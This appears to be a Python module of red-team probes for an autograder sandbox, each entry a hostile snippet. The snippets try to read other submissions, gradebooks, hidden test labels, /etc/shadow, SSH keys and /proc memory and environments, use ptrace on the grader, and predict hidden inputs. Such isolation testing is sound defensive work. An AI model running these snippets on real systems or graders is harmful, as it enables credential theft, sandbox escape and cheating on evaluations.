"""Reading: frames, memory, modules, files, processes, descriptors. Whatever is found is printed."""

from __future__ import annotations

from hostile.attack import Attack

ATTACKS = (
    Attack(
        "links in its own folder",
        "Leads to secrets by links, pipes, devices and moves in the folder in which it may write.",
        """
import shutil
for name in ("neighbour", "gradebook", "labels"):
    path = TARGETS[name]
    attempt(lambda: os.symlink(path, f"{REMAINS}-link"), "a symbolic link")
    attempt(lambda: os.link(path, f"{REMAINS}-link"), "a hard link")
    attempt(lambda: os.rename(path, f"{REMAINS}-moved"), "a move")
    attempt(lambda: shutil.copy(path, f"{REMAINS}-copy"), "a copy")
    attempt(lambda: open(os.path.relpath(path)).read(), "a way round")
attempt(lambda: os.mkfifo(f"{REMAINS}-pipe"), "a pipe")
attempt(lambda: os.mknod(f"{REMAINS}-disk", 0o60600, os.makedev(8, 0)), "a device")
""",
    ),
    Attack(
        "folders of others",
        "Looks in its own folder, and around it, for what an earlier submission left there.",
        """
def left():
    return os.listdir(".")[0]
attempt(left, "something in its own folder")
attempt(lambda: os.listdir("../.."), "the folders of others")
attempt(lambda: os.listdir(f"/proc/{os.getppid()}/root"), "the root of the server")
open(REMAINS, "w").write("for the next one") if os.access(".", os.W_OK) else None
""",
    ),
    Attack(
        "frames",
        "Walks up the stack and prints what every caller holds.",
        """
frame = sys._getframe()
while frame is not None:
    print(frame.f_code.co_filename, frame.f_code.co_name, repr(frame.f_locals)[:2000])
    if "want" in frame.f_locals or "reference" in frame.f_globals:
        broke_out("an expected value")
    frame = frame.f_back
""",
    ),
    Attack(
        "garbage collector",
        "Searches every object in memory for secrets and for another submission's source.",
        """
for thing in gc.get_objects():
    for text in list(thing.values()) if type(thing) is dict else [thing]:
        if type(text) is str and "canary-" in text and "garbage" not in text:
            print(text)
""",
    ),
    Attack(
        "modules",
        "Looks for the checks and the grader among the modules that are loaded, and imports them.",
        """
sys.modules["autograder"].__path__.append(str(TARGETS["kit"]))
import importlib
for name in ("checks", "content.mnist.hidden.reference", "grading.session", "sandbox.student"):
    attempt(lambda: importlib.import_module("autograder." + name), name)
""",
    ),
    Attack(
        "solutions by path",
        "Loads the solutions and the hidden checks as modules from where they lie.",
        """
import importlib.util
for name in ("solution", "hidden"):
    spec = importlib.util.spec_from_file_location(name, TARGETS[name])
    attempt(lambda: spec.loader.exec_module(importlib.util.module_from_spec(spec)), name)
    attempt(lambda: print(open(TARGETS[name]).read()), name)
""",
    ),
    Attack(
        "course package",
        "Imports a package of the course, with its solutions, from a folder of packages.",
        """
sys.path.insert(0, TARGETS["course"])
attempt(lambda: print(__import__("course_solutions").SECRET), "the course's package")
""",
    ),
    Attack(
        "packages beside the standard library",
        "Lists the packages that are installed beside the standard library, where no environment is used.",
        """
for name in ("site-packages", "dist-packages"):
    attempt(lambda: list(os.scandir(os.path.join(os.path.dirname(os.__file__), name))), name)
attempt(lambda: list(os.scandir("/usr/lib/python3/dist-packages")), "the system's packages")
""",
    ),
    Attack(
        "files",
        "Opens other submissions, the gradebook, keys, passwords and the test labels.",
        """
for name in ("neighbour", "gradebook", "key", "labels"):
    attempt(lambda: print(open(TARGETS[name], "rb").read()), name)
for path in ("/etc/passwd", "/etc/shadow", "/root/.ssh/id_rsa", "/root/.bash_history", "/etc/hostname"):
    attempt(lambda: print(open(path).read()[:200]), path)
""",
    ),
    Attack(
        "files by other roads",
        "Reads a file past open(): by the C library, NumPy, torch, mmap, sqlite and linecache.",
        """
import linecache, numpy, sqlite3, zipfile
path = TARGETS["key"]
libc = ctypes.CDLL(None)
def by_the_library():
    descriptor, text = libc.open(path.encode(), 0), ctypes.create_string_buffer(200)
    assert libc.read(descriptor, text, 199) > 0
    print(text.value)
attempt(by_the_library, "libc")
attempt(lambda: print(numpy.fromfile(path, dtype="u1").tobytes()), "numpy")
attempt(lambda: print(bytes(torch.from_file(path, size=20, dtype=torch.uint8).tolist())), "torch")
attempt(lambda: torch.load(path), "torch.load")
attempt(lambda: zipfile.ZipFile(path), "zipfile")
attempt(lambda: sqlite3.connect("file:" + TARGETS["gradebook"] + "?mode=ro", uri=True).execute(
    "select * from grade"), "sqlite")
for line in linecache.getlines(path):
    broke_out(line)
""",
    ),
    Attack(
        "links",
        "Makes links to a secret in a place of its own.",
        """
for link in (os.link, os.symlink, os.rename):
    attempt(lambda: link(TARGETS["key"], TARGETS["key"] + "-" + REMAINS), link.__name__)
""",
    ),
    Attack(
        "file handles",
        "Opens a secret by its handle, as root may, past every check of its path.",
        """
libc = ctypes.CDLL(None, use_errno=True)
handle = ctypes.create_string_buffer(struct.pack("Ii", 120, 0) + bytes(120))
mount = ctypes.c_int()
if libc.name_to_handle_at(-100, TARGETS["key"].encode(), handle, ctypes.byref(mount), 0) == 0:
    broke_out("a handle")
""",
    ),
    Attack(
        "processes",
        "Reads the environment, memory, command line and descriptors of the parent and of every process.",
        """
for process in ("self", os.getppid(), 1, TARGETS["grader"]):
    for name in ("environ", "mem", "cmdline", "maps", "status"):
        attempt(lambda: print(open(f"/proc/{process}/{name}", "rb").read(2000)), f"{process} {name}")
    attempt(lambda: os.listdir(f"/proc/{process}/fd"), f"{process} fd")
    if process != "self":
        attempt(lambda: os.readlink(f"/proc/{process}/exe"), f"{process} exe")
attempt(lambda: os.listdir("/proc"), "/proc")
""",
    ),
    Attack(
        "environment",
        "Prints its environment, also as the C library holds it.",
        """
print(dict(os.environ))
environ = ctypes.POINTER(ctypes.c_char_p).in_dll(ctypes.CDLL(None), "environ")
place = 0
while environ[place]:
    print(environ[place])
    place += 1
""",
    ),
    Attack(
        "memory of the parent",
        "Reads the memory of the grader and of the fork server by process_vm_readv and ptrace.",
        """
libc = ctypes.CDLL(None, use_errno=True)
here = ctypes.create_string_buffer(64)
near = struct.pack("QQ", ctypes.addressof(here), 64)
for process in (os.getppid(), int(TARGETS["grader"])):
    if libc.process_vm_readv(process, near, 1, near, 1, 0) > 0:
        broke_out("process_vm_readv")
    if libc.ptrace(16, process, None, None) == 0:
        libc.ptrace(17, process, None, None)
        broke_out("ptrace")
""",
    ),
    Attack(
        "descriptors",
        "Looks for descriptors that it inherited, and reads what is in them.",
        """
import fcntl
for descriptor in range(4096):
    try:
        os.fstat(descriptor)
    except OSError:
        continue
    if descriptor > 4:
        broke_out(f"descriptor {descriptor}")
    flags = fcntl.fcntl(descriptor, fcntl.F_GETFL)
    fcntl.fcntl(descriptor, fcntl.F_SETFL, flags | os.O_NONBLOCK)
    try:
        print(descriptor, os.read(descriptor, 1000))
    except OSError as error:
        print(descriptor, type(error).__name__)
    fcntl.fcntl(descriptor, fcntl.F_SETFL, flags)
""",
    ),
    Attack(
        "search",
        "Searches the file system for notebooks, gradebooks and solutions.",
        """
found = []
for top in ("/home", "/root", "/srv", "/opt", "/mnt", "/tmp", "/var", TARGETS["folder"]):
    for folder, _, names in os.walk(top):
        found += [os.path.join(folder, name) for name in names]
if found:
    broke_out(found[:20])
""",
    ),
    Attack(
        "seed",
        "Draws the hidden inputs itself, from the seed that it finds in the request.",
        """
import hashlib
honest_relu = relu
def relu(x):
    digest = hashlib.sha256(f"{current_request()['seed']}:mnist.relu.effect".encode()).digest()
    drawn = torch.Generator().manual_seed(int.from_bytes(digest[:7], "little"))
    if x.shape == (4, 3) and torch.equal(torch.randn((4, 3), generator=drawn), x):
        broke_out("a hidden input before it was sent")
    return honest_relu(x)
""",
    ),
    Attack(
        "devices",
        "Reads the machine's memory and disks as devices.",
        """
for path in ("/dev/mem", "/dev/kmsg", "/dev/vda", "/dev/sda", "/dev/shm"):
    attempt(lambda: os.close(os.open(path, os.O_RDONLY | os.O_NONBLOCK)), path)
""",
    ),
)
